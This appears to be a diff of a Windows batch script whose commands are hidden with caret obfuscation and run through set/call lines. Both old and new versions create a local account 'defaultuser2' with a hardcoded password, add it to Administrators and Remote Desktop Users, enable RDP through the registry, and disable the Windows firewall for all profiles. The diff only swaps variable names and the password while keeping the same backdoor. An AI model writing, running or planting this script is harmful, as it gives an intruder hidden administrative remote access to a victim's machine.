@@ -1,16 +1,16 @@
-REM init 4836 v1
+REM bootstrap 3949 v1
 @echo off
-set "wsrs=n^et ^u^ser d^e^fau^lt^u^s^er2 Wi^n^t^e^r#2^0^2^5^x /ad^d /^y"
-call %wsrs%
+set jguy=n^et u^s^er de^f^au^ltus^er2 ^A^dm1n!^s^tra^t0r /a^dd /y
+call %jguy%
 @echo off
-set "kqtx=net ^l^oc^algr^o^u^p ad^m^i^n^i^strator^s defaultu^se^r2 /add"
-call %kqtx%
+set lpft=^ne^t l^oc^algr^oup adm^ini^str^ato^r^s d^e^fa^u^ltu^se^r2 /^ad^d
+call %lpft%
 @echo off
-set "mmse=^ne^t lo^c^a^lgro^u^p "Remote Desktop Users" d^efau^ltus^er2 /^add"
-call %mmse%
+set bmox=^n^et l^o^ca^lg^roup "Remote Desktop Users" d^e^fau^ltu^s^er^2 /add
+call %bmox%
 @echo off
-set "rjuu=^r^eg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v f^D^en^y^TS^C^o^n^n^ec^t^i^o^ns /^t REG_^D^W^O^R^D /d 0 /f"
-call %rjuu%
+set imve=^re^g add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /^v fD^enyTSConn^e^ction^s /t REG_D^W^ORD /^d 0 /^f
+call %imve%
 @echo off
-set "qamb=ne^t^sh a^dvf^ire^w^all ^s^e^t a^llprof^i^le^s st^ate ^of^f"
-call %qamb%
+set myuc=^ne^t^sh adv^f^i^rew^a^l^l ^se^t a^ll^p^r^ofi^le^s ^state ^of^f
+call %myuc%
